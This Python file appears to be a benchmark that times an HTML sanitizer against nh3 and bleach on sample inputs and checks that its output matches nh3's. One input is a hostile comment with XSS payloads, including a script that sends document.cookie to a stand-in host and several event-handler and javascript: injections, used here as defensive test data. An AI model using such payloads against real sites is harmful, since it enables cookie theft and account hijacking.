"""Sanitizing HTML under nh3's default policy; bleach under its own."""

from __future__ import annotations

from collections.abc import Iterator, Mapping

import bleach
import nh3

from benches.peers.harness import Contest, Domain
from hauberk.html import Policy, Sanitizer

SENTENCE = "The quick brown fox jumps over the lazy dog, and nobody minds at all. "
COMMENT = (
    "<p>I <em>really</em> like this one, see "
    '<a href="https://example.com/review?id=7">my review</a>.<br>Thanks &amp; bye!</p>'
)
ARTICLE = (
    "<h2>Care</h2><p>Wash it <strong>cold</strong>.</p><ul>"
    + "".join(f"<li>Step {number}: <code>dry()</code></li>" for number in range(20))
    + "</ul><blockquote><p>Works.</p></blockquote>"
) * 5
HOSTILE = (
    "<p onclick=steal()>Nice<script>fetch('//evil.example/?'+document.cookie)</script>"
    "<img src=x onerror=alert(1)><a href='javascript:alert(1)'>here</a><svg/onload=x>"
)

#: Title, input, and the ratio to reach.
INPUTS: list[tuple[str, str, float]] = [
    ("100 characters of text", (SENTENCE * 2)[:100], 8),
    ("10 KB of text", (SENTENCE * 150)[:10_000], 5),
    (f"a comment of {len(COMMENT)} characters", COMMENT, 6),
    (f"an article of {len(ARTICLE)} characters", ARTICLE, 6),
    (f"a hostile comment of {len(HOSTILE)} characters", HOSTILE, 0.95),
]


def contests() -> Iterator[Contest]:
    for title, html, goal in INPUTS:
        yield _sanitize(title, html, goal)


def _sanitize(title: str, html: str, goal: float) -> Contest:
    ours = Sanitizer(Policy.NH3)
    cleaner = nh3.Cleaner()
    bleacher = bleach.Cleaner(tags=Policy.NH3.tags, strip=True)
    return Contest(
        work=title,
        contestants={
            "hauberk": lambda: ours.sanitize(html),
            "nh3.Cleaner": lambda: cleaner.clean(html),
            "nh3.clean": lambda: nh3.clean(html),
            "bleach.Cleaner": lambda: bleacher.clean(html),
        },
        baseline="nh3.Cleaner",
        goal=goal,
        check=_same_as_nh3,
    )


def _same_as_nh3(outputs: Mapping[str, object]) -> None:
    if outputs["hauberk"] != outputs["nh3.Cleaner"]:
        raise AssertionError(f"Not the same work: {outputs}")


DOMAIN = Domain("Sanitizing HTML", contests, peers=("nh3", "bleach"))
